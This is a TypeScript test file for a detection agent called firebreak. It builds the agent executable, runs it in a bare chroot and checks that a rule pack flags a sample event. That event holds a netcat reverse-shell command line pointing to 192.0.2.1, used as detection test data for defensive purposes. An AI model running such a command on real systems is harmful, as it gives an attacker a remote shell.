import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { copyFileSync, mkdirSync, writeFileSync } from 'node:fs'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import process from 'node:process'
import { after, test } from 'node:test'
import { compilePack, parsePack } from '@firebreak/content'
import { readPackFolder } from '@firebreak/pack-folder'
import { buildAgent } from './agent-build.ts'
import { STARTER_PACK } from './places.ts'
import { openScreen } from './screen.ts'

const folder = await mkdtemp(join(tmpdir(), 'firebreak-build-'))
after(() => rm(folder, { recursive: true, force: true }))

const EVENT = {
  category: 'process_creation',
  product: 'linux',
  timeMs: 1,
  fields: { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 192.0.2.1 4444', ParentImage: '/bin/sh' },
}
const IS_ROOT = process.geteuid?.() === 0

/** A root with the executable, what it is linked to, and nothing else: no Node.js, no shell, no temporary folder. */
function bareRoot(file: string): string {
  const root = join(folder, 'root')
  const libraries = execFileSync('ldd', [file], { encoding: 'utf8' }).matchAll(/\/[^ )]+/g)
  for (const [library] of libraries) {
    mkdirSync(join(root, dirname(library)), { recursive: true })
    copyFileSync(library, join(root, library))
  }
  for (const name of ['proc', 'dev']) mkdirSync(join(root, name), { recursive: true })
  writeFileSync(join(root, 'dev', 'null'), '')
  return root
}

test('the executable runs its confined engine where there is no Node.js', { timeout: 120_000 }, async (t) => {
  const { file, sizeBytes } = await buildAgent(join(folder, 'agent'), openScreen(true))
  assert.ok(sizeBytes > 50_000_000, 'it holds a Node.js')
  const root = IS_ROOT ? bareRoot(file) : folder
  copyFileSync(file, join(root, 'firebreak-agent'))
  writeFileSync(join(root, 'image.fbi'), compilePack(parsePack(await readPackFolder(STARTER_PACK))).image)
  writeFileSync(join(root, 'events.json'), JSON.stringify([EVENT, { ...EVENT, fields: { Image: '/bin/true' } }]))
  const command = 'firebreak-agent evaluate --image image.fbi --events events.json'.split(' ')
  const mounts = 'mount -t proc proc "$0/proc" && mount --bind /dev/null "$0/dev/null" && cd "$0" && exec "$@"'
  const [program, ...args] = IS_ROOT
    ? ['unshare', '--mount', 'sh', '-c', mounts, root, '/usr/sbin/chroot', '.', `/${command[0]}`, ...command.slice(1)]
    : [join(root, command[0] ?? ''), ...command.slice(1)]
  if (!IS_ROOT) t.diagnostic('not root: it runs beside this Node.js, with an empty environment')
  const env = { PATH: IS_ROOT ? '/usr/bin:/bin' : '', NODE_OPTIONS: '--inspect=0' } // which it does not heed
  const said = execFileSync(program ?? '', args, { cwd: root, env, encoding: 'utf8' })
  const answer = JSON.parse(said) as { kind: string; verdicts: { firedRuleIds: string[] }[] }
  assert.equal(answer.kind, 'ran')
  assert.deepEqual(
    answer.verdicts.map(({ firedRuleIds }) => firedRuleIds.length > 0),
    [true, false],
  )
})
